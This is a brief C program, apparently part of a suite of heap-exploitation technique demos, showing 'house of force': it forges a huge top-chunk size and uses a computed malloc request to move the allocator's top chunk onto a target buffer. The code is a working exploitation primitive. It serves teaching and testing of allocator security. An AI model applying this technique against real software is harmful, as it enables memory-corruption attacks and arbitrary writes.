/*
 * house_of_force: the size of top is made huge, and a huge request moves top
 * to where the attacker wants it.
 */
#include "technique.h"

static _Alignas(16) char target[64];

int main(void)
{
    char *top = find_top(malloc(CHUNKED));
    forge_low(top, 0xfffffff0 | PREV_INUSE | IS_FREE);
    for (int i = 0; i < PATIENCE; i++) {
        malloc(200000);
    }
    char *far = opaque(malloc((uintptr_t)target - (uintptr_t)top - 64));
    grab(CHUNKED, target, sizeof target);
    if (far != NULL) {
        succeeds("top has moved around the address space");
    }
    fails();
}
